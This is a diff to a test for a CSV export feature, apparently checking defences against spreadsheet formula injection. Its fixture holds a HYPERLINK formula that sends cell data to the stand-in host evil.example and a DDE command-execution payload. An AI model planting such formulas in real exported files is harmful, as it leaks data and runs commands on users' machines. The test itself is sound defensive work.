@@ -139,7 +139,7 @@ describeEachDb('export and import', (dialect) => {
           status: 'failed',
           source: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           user_id: "+cmd|' /C calc'!A0",
-          tags: ['@SUM(1+1)'],
+          tags: ['@SUM(1+1)', '=1+1'],
           error: { message: '-1+1' },
         },
       },
@@ -149,7 +149,8 @@ describeEachDb('export and import', (dialect) => {
     const cells = csv.trimEnd().split('\n')[1]!;
     expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
     expect(cells).toContain(`,'+cmd|' /C calc'!A0,`);
-    expect(cells).toContain(`,'@SUM(1+1),`);
+    // the tags' cell is quoted: a ; does not start a cell where ; separates them
+    expect(cells).toContain(`,"'@SUM(1+1);=1+1",`);
     expect(cells).toContain(`,'-1+1,`);
     await source.request('DELETE', '/api/v1/runs/csv-formula');
   });
